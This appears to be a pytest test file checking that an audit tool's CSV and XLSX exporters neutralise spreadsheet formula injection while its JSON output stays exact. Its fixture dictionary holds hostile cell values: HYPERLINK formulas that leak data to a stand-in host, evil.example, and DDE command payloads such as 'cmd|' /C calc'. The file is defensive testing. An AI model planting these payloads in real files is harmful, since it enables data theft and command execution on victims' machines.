"""Formula injection: hostile cloud strings pass through every CSV and XLSX writer and come out inert."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

import tests.support.testkit  # noqa: F401  (registers the test collector in this process)
from agent.cli.app import App
from agent.cli.cmd_run import execute_run
from agent.export.cells import inert
from tests.agent.export.conftest import export
from tests.agent.export.test_cli import main
from tests.conftest import World

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "id": "+cmd|' /C calc'!A0",
    "account": "@SUM(1,2)",
    "region": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "spaced": "  =1+1",
    "fullwidth": "\uff1dHYPERLINK(\"http://evil.example\")",
    "owner": '=HYPERLINK("http://evil.example","CISO")',
    "justification": "@cmd|' /C calc'!A0",
}
_DANGEROUS = re.compile(r"^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
_NUMBER = re.compile(r"\s*[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\s*")

RULES = """provider: testkit
rules:
  - id: hostile.widget.encrypted
    title: Widgets are encrypted
    resource: testkit.widget
    severity: high
    controls: [A.8.24]
    assert: "encryption.enabled == `true`"
    message: "{name} is not encrypted"
    guidance: Encryption at rest protects stored data.
    remediation: Turn it on.
"""
SOA = f"""controls:
  A.8.24: {{applicable: true, implementation: implemented, owner: {json.dumps(HOSTILE["owner"])}}}
  A.7.4: {{applicable: false, justification: {json.dumps(HOSTILE["justification"])}}}
"""
EXCEPTIONS = f"""exceptions:
  - id: RA-1
    rule: hostile.widget.encrypted
    resource: "w-exc"
    justification: {json.dumps(HOSTILE["justification"])}
    owner: {json.dumps(HOSTILE["owner"])}
    approved_by: ciso@acme.example
    expires: 2099-12-31
"""


def dangerous(cell: str) -> bool:
    """Would a spreadsheet evaluate this cell? (independent of agent.export.cells)"""
    return bool(_DANGEROUS.match(cell)) and not _NUMBER.fullmatch(cell)


def assert_inert_csv(text: str, where: str) -> list[list[str]]:
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table, where
    bad = [cell for row in table for cell in row if dangerous(cell)]
    assert not bad, f"{where}: live formula cells {bad[:3]}"
    return table


def assert_inert_xlsx(path: Path) -> list[list[object]]:
    ws = load_workbook(path).active
    rows = [[c for c in row] for row in ws.iter_rows()]
    formulas = [c.coordinate for row in rows for c in row if c.data_type == "f"]
    assert not formulas, f"{path}: formula cells {formulas}"
    bad = [c.value for row in rows for c in row if isinstance(c.value, str) and dangerous(c.value)]
    assert not bad, f"{path}: {bad[:3]}"
    return [[c.value for c in row] for row in rows]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "rules").mkdir()
    (folder / "rules" / "hostile.yaml").write_text(RULES)
    (folder / "soa.yaml").write_text(SOA)
    (folder / "exceptions.yaml").write_text(EXCEPTIONS)
    world = World(folder / "world.json")
    (folder / "annexa.yaml").write_text(
        f"store:\n  url: sqlite:///{folder / 'annexa.db'}\n  evidence: {folder / 'evidence'}\n"
        f"rules:\n  paths: [{folder / 'rules'}]\nsoa: soa.yaml\nexceptions: exceptions.yaml\n"
        f"sources:\n  - name: kit\n    type: testkit\n    world: {world.path}\n")
    plain = {"encryption": {"enabled": False}}
    world.add("testkit.widget", HOSTILE["id"], plain, name=HOSTILE["name"], account=HOSTILE["account"],
              region=HOSTILE["region"])
    for key in ("tab", "cr", "spaced", "fullwidth"):
        world.add("testkit.widget", f"w-{key}", plain, name=HOSTILE[key], region="r1", account="111")
    world.add("testkit.widget", "w-exc", plain, name=HOSTILE["owner"], region="r1", account="111")
    world.add("testkit.widget", "w-neg", plain, name="-5", region="r1", account="111")
    app = App(str(folder / "annexa.yaml"))
    store = app.store()
    try:
        execute_run(app, quiet=True, store=store)
    finally:
        store.close()
    return folder


def test_the_neutraliser_follows_owasp() -> None:
    for text in ("=1+1", "+A1", "-1+2", "@A1", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\uff1d1", "\uff20A1"):
        assert inert(text) == "'" + text
    for text in ("", "plain", "a=b", "-5", "+1.5e3", " 42 ", "2026-01-01T00:00:00Z", "'=already"):
        assert inert(text) == text


def test_bundle_csvs_and_xlsx_are_inert(hostile: Path, tmp_path: Path) -> None:
    from tests.agent.export.conftest import History

    out = tmp_path / "audit.zip"
    export(History(hostile, hostile / "annexa.yaml", World(hostile / "world.json"), []), out)
    with zipfile.ZipFile(out) as zf:
        names = [n for n in zf.namelist() if n.endswith(".csv")]
        assert "soa.csv" in names and "controls/A.8.24/findings.csv" in names
        assert "controls/A.8.24/population.csv" in names
        texts = {n: zf.read(n).decode("utf-8") for n in names}
        (tmp_path / "soa.xlsx").write_bytes(zf.read("soa.xlsx"))
    tables = {name: {c for row in assert_inert_csv(text, name) for c in row} for name, text in texts.items()}
    findings = tables["controls/A.8.24/findings.csv"]
    for key in ("name", "id", "account", "region", "tab", "cr", "spaced", "fullwidth"):
        assert "'" + HOSTILE[key] in findings, key  # the value is kept, behind the quote
    assert "'" + HOSTILE["name"] + " is not encrypted" in findings  # the message too
    assert "'" + HOSTILE["name"] in tables["controls/A.8.24/population.csv"]
    assert "'" + HOSTILE["owner"] in tables["soa.csv"]
    assert "-5" in findings  # a plain number is left as a number
    cells = assert_inert_xlsx(tmp_path / "soa.xlsx")
    assert ["'" + HOSTILE["owner"]] == [c for row in cells for c in row if c == "'" + HOSTILE["owner"]]


def test_cli_csv_and_xlsx_writers_are_inert(hostile: Path, tmp_path: Path) -> None:
    config = str(hostile / "annexa.yaml")
    for args in (("findings", "--format", "csv"), ("controls", "--format", "csv"),
                 ("soa", "export", "--format", "csv"), ("exceptions", "list", "--format", "csv"),
                 ("runs", "--format", "csv")):
        proc = main("--config", config, *args)
        assert proc.returncode == 0, (args, proc.stderr)
        assert_inert_csv(proc.stdout, " ".join(args))
        cells = {c for row in csv.reader(io.StringIO(proc.stdout, newline="")) for c in row}
        if args[0] == "findings":
            assert {"'" + HOSTILE[k] for k in ("name", "id", "account", "region", "cr")} <= cells
        if args[0] in ("soa", "exceptions"):
            assert "'" + HOSTILE["owner"] in cells and "'" + HOSTILE["justification"] in cells

    out = tmp_path / "soa.xlsx"
    proc = main("--config", config, "soa", "export", "--format", "xlsx", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    cells = assert_inert_xlsx(out)
    assert "'" + HOSTILE["owner"] in [c for row in cells for c in row]
    assert "'" + HOSTILE["justification"] in [c for row in cells for c in row]


def test_json_output_stays_exact(hostile: Path) -> None:
    proc = main("--config", str(hostile / "annexa.yaml"), "findings", "--format", "json")
    names = {f["resource"]["name"] for f in json.loads(proc.stdout)}
    assert HOSTILE["name"] in names and HOSTILE["tab"] in names and "'" + HOSTILE["name"] not in names
